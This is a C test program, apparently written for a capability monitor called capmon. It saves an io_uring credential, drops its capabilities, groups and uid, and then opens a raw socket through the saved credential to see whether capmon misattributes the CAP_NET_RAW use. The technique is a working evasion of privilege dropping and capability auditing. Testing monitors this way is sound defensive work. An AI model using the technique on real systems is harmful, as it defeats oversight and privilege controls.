// SPDX-License-Identifier: Apache-2.0
//
// attack-personality registers its credential with an io_uring. Then it drops every capability
// that it can, and changes its groups and its session keyring. At the end it opens a raw socket
// with the registered credential. This credential has more capabilities than the task may have.
// The attack tries to make capmon attribute a use of CAP_NET_RAW to another process.
//
//   attack-personality [DIRECTORY]    with DIRECTORY: makes the file "ready" there after the drop
//                                     and waits for the file "go" before it opens the socket
//
// It exits 0 if the socket was opened, 1 on failure.

#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define OP_SOCKET 45 /* IORING_OP_SOCKET, since Linux 5.19 */

static long need(long result, const char *what)
{
	if (result < 0) {
		perror(what);
		exit(1);
	}
	return result;
}

static void *map_ring(int ring, size_t size, off_t offset)
{
	void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, offset);

	if (at == MAP_FAILED)
		need(-1, "mmap");
	return at;
}

static void wait_in(const char *directory)
{
	need(chdir(directory), directory);
	need(open("ready", O_CREAT | O_WRONLY, 0666), "ready");
	while (access("go", F_OK) != 0)
		usleep(10000);
}

int main(int argc, char **argv)
{
	struct io_uring_params params = { 0 };
	int ring = need(syscall(SYS_io_uring_setup, 1, &params), "io_uring_setup");
	char *sq = map_ring(ring, 4096, IORING_OFF_SQ_RING);
	char *cq = map_ring(ring, 4096, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqe = map_ring(ring, 4096, IORING_OFF_SQES);
	int personality =
		need(syscall(SYS_io_uring_register, ring, IORING_REGISTER_PERSONALITY, NULL, 0),
		     "io_uring_register");
	gid_t group = 4711;

	need(setgroups(1, &group), "setgroups");
	syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
	for (int capability = 0; prctl(PR_CAPBSET_READ, capability) >= 0; capability++)
		prctl(PR_CAPBSET_DROP, capability);
	need(setresuid(1000, 1000, 1000), "setresuid");
	if (argc > 1)
		wait_in(argv[1]);

	memset(sqe, 0, sizeof(*sqe));
	sqe->opcode = OP_SOCKET;
	sqe->fd = AF_INET;
	sqe->off = SOCK_RAW;
	sqe->len = 1; /* IPPROTO_ICMP */
	sqe->personality = personality;
	*(unsigned *)(sq + params.sq_off.array) = 0;
	__atomic_store_n((unsigned *)(sq + params.sq_off.tail), 1, __ATOMIC_RELEASE);
	need(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0),
	     "io_uring_enter");
	int result = ((struct io_uring_cqe *)(cq + params.cq_off.cqes))->res;
	if (result < 0) {
		fprintf(stderr, "socket: %s\n", strerror(-result));
		return 1;
	}
	return 0;
}
